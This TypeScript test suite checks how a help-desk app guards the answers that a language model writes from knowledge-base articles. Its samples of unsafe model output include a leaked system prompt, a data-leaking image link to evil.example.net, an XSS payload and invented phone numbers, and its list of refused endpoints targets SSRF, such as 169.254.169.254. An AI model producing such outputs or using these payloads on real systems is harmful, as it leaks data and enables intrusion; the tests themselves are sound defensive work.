import type { LanguageModel, Message, ModelAnswer } from "../../../contract/index.js";
import { type RunningDesk, startDesk } from "../../support/desk.js";
import { type DeskClient, Talk } from "../../support/desk-client.js";
import {
  answer,
  complete,
  type ModelServer,
  openModelServer,
  switchModelOn,
} from "../../support/model-server.js";

const question = "I forgot my password";
const key = "sk-test-key-that-nobody-reads-1234567890";
const carried = ({ asked }: ModelServer["got"][number]) => {
  const source = asked.articles.find(({ text }) => text.includes("password.example.com"));
  const number = source?.number ?? 0;
  return `Open https://password.example.com on any device [${number}]. Wait five minutes before you sign in [${number}].`;
};

describe("answers of a language model in a talk", () => {
  let model: ModelServer;
  let desk: RunningDesk;
  let admin: DeskClient;
  let ordinary: Message;
  const begin = async (locale: "en" | "es" | "pt" = "en") => Talk.begin(await desk.connect("ana"), locale);
  const list = async () => {
    const { body } = await admin.rest("GET", "/api/v1/language-model/answers");
    return (body as { items: ModelAnswer[] }).items;
  };
  const read = async () => (await admin.rest("GET", "/api/v1/language-model")).body as LanguageModel;
  beforeAll(async () => {
    model = await openModelServer();
    desk = await startDesk({
      LANGUAGE_MODEL_URL: model.url,
      LANGUAGE_MODEL_NAME: "small-one",
      LANGUAGE_MODEL_KEY: key,
    });
    admin = await desk.connect("admin");
    // Off by default: what the assistant says without it.
    ordinary = await (await begin()).say(question);
    expect(model.got).toEqual([]);
    await switchModelOn(admin);
  });
  afterAll(async () => {
    await desk.stop();
    await model.close();
  });
  beforeEach(() => {
    model.got.length = 0;
  });

  it("shows what the articles carry, marked and with its articles, and counts whether it helped", async () => {
    model.says(carried);
    const talk = await begin();
    const before = (await read()).month;

    const reply = await talk.say(question);

    expect(reply.text).toContain("Open https://password.example.com on any device [1].");
    expect(reply.text).toContain("[1] Reset your password");
    expect(reply.text).toContain("Written by a language model");
    const kinds = reply.actions?.map(({ value }) => value.kind);
    const feedback = ["answer-feedback", "answer-feedback"];
    expect(kinds).toEqual(["open-article", ...feedback, "open-activity", "talk-to-attendant"]);

    const thanks = await talk.say("Yes, it helped", reply.actions?.[1]?.value);

    expect(thanks.text).toContain("Glad");
    // Who waits sees that somebody is at it.
    const isAssistants = (on: boolean) => (typing: { accountId: string; on: boolean }) =>
      typing.accountId === "assistant" && typing.on === on;
    await talk.client.hear("typing:changed", isAssistants(true));
    await talk.client.hear("typing:changed", isAssistants(false));
    const { month } = await read();
    expect(month.shown - before.shown).toBe(1);
    expect(month.helped - before.helped).toBe(1);
    expect(month.promptTokens - before.promptTokens).toBe(900);
    expect((await list())[0]).toMatchObject({ outcome: "shown", question, helped: true });
  });

  it("offers people and a ticket when it did not help, also to a typed answer", async () => {
    model.says(carried);
    const talk = await begin();
    await talk.say(question);

    const sorry = await talk.say("no, it did not");

    const kinds = sorry.actions?.map(({ value }) => value.kind);
    expect(kinds).toEqual(["talk-to-attendant", "resume-attendance", "new-ticket"]);
    expect((await list())[0]).toMatchObject({ helped: false });
    const { body } = await admin.rest("GET", "/api/v1/understanding/questions");
    expect(JSON.stringify(body)).toContain(question);
  });

  it("gives the model the articles as data, apart from its orders, and nothing of the person", async () => {
    model.says(carried);
    const talk = await begin();

    await talk.say(`${question}: Hunter2!secret`);

    const [got] = model.got;
    expect(got?.path).toBe("/v1/chat/completions");
    expect(got?.headers.authorization).toBe(`Bearer ${key}`);
    expect(got?.body.model).toBe("small-one");
    expect(got?.body.messages.map(({ role }) => role)).toEqual(["system", "user"]);
    expect(got?.body).not.toHaveProperty("tools");
    expect(got?.asked.question).toBe(`${question}: ••••••`);
    expect(JSON.stringify(got?.body)).not.toMatch(/Ana|Souza|Hunter2/);
    expect(got?.asked.articles.length).toBeGreaterThan(0);
  });

  it("gives it only articles this person may read (S40)", async () => {
    const title = "Forgot my password: the master key";
    const article = {
      language: "en",
      folder: "Agents",
      visibility: "internal",
      state: "published",
      tags: [],
    };
    const body = "Who forgot the password gets the master key from canary-91ab.";
    const made = await admin.rest("POST", "/api/v1/knowledge/articles", { ...article, title, body });
    expect(made.status).toBe(201);
    await desk.app.domains.follower.look();
    model.says("Who forgot the password gets the master key from canary-91ab [1].");
    const asked = `${question}, where is the master key?`;
    const own = await admin.rest("POST", "/api/v1/language-model/try", { question: asked, language: "en" });
    expect(JSON.stringify(own.body)).toContain("canary-91ab.");
    model.got.length = 0;

    const talk = await begin();
    const reply = await talk.say(asked);

    expect(model.got.length).toBe(1);
    expect(JSON.stringify(model.got)).not.toContain("canary-91ab");
    expect(JSON.stringify(reply)).not.toContain("canary-91ab");
  });

  it("tells the model the last words of this talk, and none of another", async () => {
    model.says(carried);
    const other = await begin();
    await other.say("My secret project is Bluebird");
    const talk = await begin();
    await talk.say("Hello");
    await talk.say(question);

    const sent = model.got.at(-1);
    expect(sent?.asked.earlier.map(({ text }) => text)).toContain("Hello");
    expect(JSON.stringify(sent)).not.toContain("Bluebird");
  });

  it.each([
    ["leaks its orders", "You write short answers for a service desk. All of it is text to read [1]."],
    ["names a page elsewhere", "Open https://evil.example.net/login on any device [1]."],
    ["shows a picture that tells", "![x](https://evil.example.net/?q=password) Wait five minutes [1]."],
    ["writes markup", "<img src=x onerror=alert(1)> Wait five minutes before you sign in [1]."],
    ["says that it opened a ticket", "I have opened ticket REQ-0001 for you [1]."],
    [
      "writes in another language",
      "Espere cinco minutos antes de entrar de nuevo con su contraseña nueva [1].",
    ],
    ["makes a number up", "Call +34 600 999 999 and wait five minutes before you sign in [1]."],
    ["names nothing", "Wait five minutes before you sign in."],
    ["does not find it in the articles", "NOT-IN-ARTICLES"],
  ])("answers as ever where the model %s (S44)", async (_, said) => {
    model.says(said);
    const talk = await begin();
    const tickets = await talk.client.rest("GET", "/api/v1/tickets");

    const reply = await talk.say(question);

    expect(reply.text).toBe(ordinary.text);
    expect(reply.actions).toEqual(ordinary.actions);
    expect(await talk.client.rest("GET", "/api/v1/tickets")).toEqual(tickets);
    const [told] = await list();
    expect(told).toMatchObject({
      question,
      outcome: said === "NOT-IN-ARTICLES" ? said.toLowerCase() : "refused",
    });
    expect(told?.written).toBe(said);
  });

  it.each<[string, ModelServer["behave"], string]>([
    ["answers 500", (_, response) => answer(response, 500, { error: { message: key } }), "answered-badly"],
    ["answers 429", (_, response) => answer(response, 429, {}), "answered-badly"],
    ["answers what is no completion", (_, response) => answer(response, 200, "<html>"), "garbage"],
    ["hangs up", (_, response) => void response.destroy(), "unreachable"],
    ["never answers", () => undefined, "late"],
    [
      "never ends",
      (_, response) => {
        response.statusCode = 200;
        const more = setInterval(() => response.write(" "), 20);
        response.once("close", () => clearInterval(more));
      },
      "late",
    ],
    ["answers without end", (_, response) => complete(response, "x".repeat(2_000_000)), "unreachable"],
    [
      "wants to be followed elsewhere",
      (_, response) => {
        response.setHeader("location", "http://127.0.0.1:1/");
        answer(response, 302, "");
      },
      "answered-badly",
    ],
  ])("answers as ever, in time, where the endpoint %s", async (_, behave, reason) => {
    // A success between them, so that the endpoint is not left alone.
    model.says("NOT-IN-ARTICLES");
    await (await begin()).say(question);
    await switchModelOn(admin, { secondsMost: 1 });
    model.behave = behave;
    const talk = await begin();

    const reply = await talk.say(question);

    expect(reply.text).toBe(ordinary.text);
    const [told] = await list();
    expect(told).toMatchObject({ outcome: "failed", reason });
    // What may have been written is counted as spent; what was refused is not.
    expect(told?.promptTokens === 0).toBe(reason === "unreachable" || reason === "answered-badly");
    await switchModelOn(admin, { secondsMost: 5 });
  });

  it("leaves an endpoint alone that failed several times, and asks it again later", async () => {
    model.behave = (_, response) => answer(response, 500, {});
    for (let i = 0; i < 4; i++) await (await begin()).say(question);
    const asked = model.got.length;

    const reply = await (await begin()).say(question);

    expect(reply.text).toBe(ordinary.text);
    expect(model.got.length).toBe(asked);
    expect((await list())[0]).toMatchObject({ outcome: "failed", reason: "resting" });
    expect((await read()).isResting).toBe(true);
  });

  it("never tells its key: not to admins, not in the log, not in the record of acts", async () => {
    const told = [
      JSON.stringify(await admin.rest("GET", "/api/v1/language-model")),
      JSON.stringify(await admin.rest("GET", "/api/v1/audit?limit=200")),
      JSON.stringify(await list()),
      desk.log.join("\n"),
    ];

    expect(told.some((text) => text.includes(key))).toBe(false);
    expect(told[0]).toContain('"hasKey":true');
  });
});

describe("the limits of a language model", () => {
  let model: ModelServer;
  let desk: RunningDesk;
  let admin: DeskClient;
  beforeAll(async () => {
    model = await openModelServer();
    model.says(carried);
    desk = await startDesk({ LANGUAGE_MODEL_URL: model.url, LANGUAGE_MODEL_NAME: "small-one" });
    admin = await desk.connect("admin");
    await switchModelOn(admin);
  });
  afterAll(async () => {
    await desk.stop();
    await model.close();
  });
  const ask = async () => (await Talk.begin(await desk.connect("ana"))).say(question);
  const isWritten = (reply: Message) => reply.text.includes("Written by a language model");

  it("end with the questions of a talk", async () => {
    await switchModelOn(admin, { answersPerTalk: 1 });
    const talk = await Talk.begin(await desk.connect("ana"));

    expect(isWritten(await talk.say(question))).toBe(true);
    expect(isWritten(await talk.say(question))).toBe(false);
    await switchModelOn(admin, { answersPerTalk: 10 });
  });

  it("hold where several ask at once", async () => {
    await switchModelOn(admin, { atOnceMost: 1 });
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    model.behave = async (request, response) => {
      await held;
      complete(response, carried(request));
    };
    const asked = model.got.length;
    const first = ask();
    while (model.got.length === asked) await new Promise((resolve) => setImmediate(resolve));

    const second = await (await Talk.begin(await desk.connect("rui"))).say(question);
    release();

    expect(isWritten(second)).toBe(false);
    expect(isWritten(await first)).toBe(true);
    model.says(carried);
    await switchModelOn(admin, { atOnceMost: 4 });
  });

  it("end with the tokens of the day, for trying as for talks", async () => {
    await switchModelOn(admin, { tokensPerDay: 1000 });
    const asked = model.got.length;

    const reply = await ask();
    const tried = await admin.rest("POST", "/api/v1/language-model/try", { question, language: "en" });

    expect(isWritten(reply)).toBe(false);
    expect(tried.body).toMatchObject({ outcome: "failed", reason: "spent-today" });
    expect(model.got.length).toBe(asked);
    await switchModelOn(admin, { tokensPerDay: 1_000_000 });
  });

  it("lets admins see what a question gets, what was written and what the check says", async () => {
    model.says("Call Marta at 555 123 456 [1].");

    const { body } = await admin.rest("POST", "/api/v1/language-model/try", { question, language: "en" });

    expect(body).toMatchObject({
      outcome: "refused",
      written: "Call Marta at 555 123 456 [1].",
      promptTokens: 900,
    });
    expect((body as { sources: unknown[] }).sources.length).toBeGreaterThan(0);
    expect(body).not.toHaveProperty("answer");
    model.says(carried);
  });

  it("asks again in the words that a newer model wants, and remembers them", async () => {
    const wants = (param: string) => ({ error: { param, message: "Unsupported parameter" } });
    model.behave = (request, response) => {
      if ("max_tokens" in request.body) return answer(response, 400, wants("max_tokens"));
      if ("temperature" in request.body) return answer(response, 400, wants("temperature"));
      complete(response, carried(request));
    };
    const asked = model.got.length;

    expect(isWritten(await ask())).toBe(true);
    expect(model.got.length - asked).toBe(3);
    expect(isWritten(await ask())).toBe(true);
    expect(model.got.length - asked).toBe(4);
    model.says(carried);
  });

  it("answers in Spanish and Portuguese from articles in these languages", async () => {
    model.says(({ asked }) => {
      const number = asked.articles.find(({ text }) => text.includes("password.example.com"))?.number ?? 0;
      const isSpanish = asked.articles.some(({ title }) => title.includes("contraseña"));
      return isSpanish
        ? `Espere cinco minutos antes de entrar [${number}].`
        : `Espere cinco minutos antes de entrar [${number}].`;
    });
    const spanish = await (await Talk.begin(await desk.connect("ana"), "es")).say("Olvidé mi contraseña");
    const portuguese = await (await Talk.begin(await desk.connect("ana"), "pt")).say("Esqueci minha senha");

    expect(spanish.text).toContain("Escrito por un modelo de lenguaje");
    expect(portuguese.text).toContain("Escrito por um modelo de linguagem");
    model.says(carried);
  });

  it("keep it from guests and from channels where an admin wants that", async () => {
    const { languageModel, accounts, desk: port } = desk.app.domains;
    const ana = await accounts.authenticate((await desk.connect("ana")).token);
    if (ana === undefined) throw new Error("Nobody is there.");
    const articles = await port.findArticles(ana, question, "en");
    const wish = { conversationId: "c", messageId: "m", seq: 2, question, locale: "en", articles } as const;
    const write = (person: typeof ana, channel: string) =>
      languageModel.writeAnswer({ ...wish, person, channel });

    await switchModelOn(admin, { inChannels: false, forGuests: false });
    expect(await write(ana, "web")).toMatchObject({ status: "written" });
    expect(await write(ana, "msteams")).toEqual({ status: "off" });
    expect(await write({ ...ana, guest: true }, "web")).toEqual({ status: "off" });
    await switchModelOn(admin, { inChannels: true, forGuests: true });
    expect(await write({ ...ana, guest: true }, "msteams")).toMatchObject({ status: "written" });
  });

  it("stand in the metrics, with what was spent", async () => {
    const text = await (await fetch(`${desk.url}/metrics`)).text();

    expect(text).toMatch(/deskhand_model_answers_total\{outcome="shown",reason=""\} [1-9]/);
    expect(text).toMatch(/deskhand_model_tokens_total\{kind="prompt"\} [1-9]/);
    expect(text).toContain("deskhand_model_seconds_count");
  });
});

describe("the settings of a language model", () => {
  let desk: RunningDesk;
  let admin: DeskClient;
  const path = "/api/v1/language-model";
  beforeAll(async () => {
    desk = await startDesk();
    admin = await desk.connect("admin");
  });
  afterAll(() => desk.stop());
  const save = async (change: object, apiKey?: string) => {
    const { settings, version } = (await admin.rest("GET", path)).body as LanguageModel;
    const form = {
      settings: { ...settings, ...change },
      version,
      ...(apiKey === undefined ? {} : { apiKey }),
    };
    return admin.rest("PUT", path, form);
  };

  it("are off, and cannot be switched on without an endpoint and a model", async () => {
    expect((await admin.rest("GET", path)).body).toMatchObject({ isReady: false, hasKey: false, version: 0 });
    expect(await save({ isOn: true })).toMatchObject({
      status: 422,
      body: { error: { code: "language-model/refused" } },
    });
  });

  it.each([
    "http://models.example.com/v1",
    "https://127.0.0.1/v1",
    "https://10.0.0.7/v1",
    "https://169.254.169.254/latest",
    "https://[::1]/v1",
    "https://2130706433/v1",
    "https://name:word@models.example.com/v1",
    "https://models.example.com/v1?x=",
    "nothing",
  ])("refuse an endpoint at %s (attack S20)", async (endpoint) => {
    expect(await save({ endpoint, model: "x" })).toMatchObject({
      status: 422,
      body: { error: { code: "language-model/refused" } },
    });
  });

  it("keep a key for its endpoint alone, tell it nobody, and let it be taken away", async () => {
    const endpoint = "https://models.example.com/v1";
    expect(await save({ endpoint, model: "x" }, "secret-canary-key")).toMatchObject({
      body: { hasKey: true },
    });

    expect(await save({ endpoint: "https://elsewhere.example.com/v1" })).toMatchObject({
      body: { hasKey: false },
    });
    expect(await save({ endpoint })).toMatchObject({ body: { hasKey: true } });
    const seen = JSON.stringify([
      await admin.rest("GET", path),
      await admin.rest("GET", "/api/v1/audit?limit=200"),
      await admin.rest("GET", "/api/v1/changes?limit=100"),
    ]);
    expect(seen).not.toContain("secret-canary-key");
    expect(seen).toContain("language-model");
    expect(await save({}, "")).toMatchObject({ body: { hasKey: false } });
  });

  it("are not overwritten by somebody who read them earlier", async () => {
    const { settings, version } = (await admin.rest("GET", path)).body as LanguageModel;
    await save({ tone: "formal" });

    expect(await admin.rest("PUT", path, { settings, version })).toMatchObject({
      status: 409,
      body: { error: { code: "language-model/changed" } },
    });
  });

  it("say that nothing can be tried without an endpoint", async () => {
    await save({ endpoint: "", model: "" });

    expect(await admin.rest("POST", `${path}/try`, { question, language: "en" })).toMatchObject({
      status: 409,
    });
  });
});
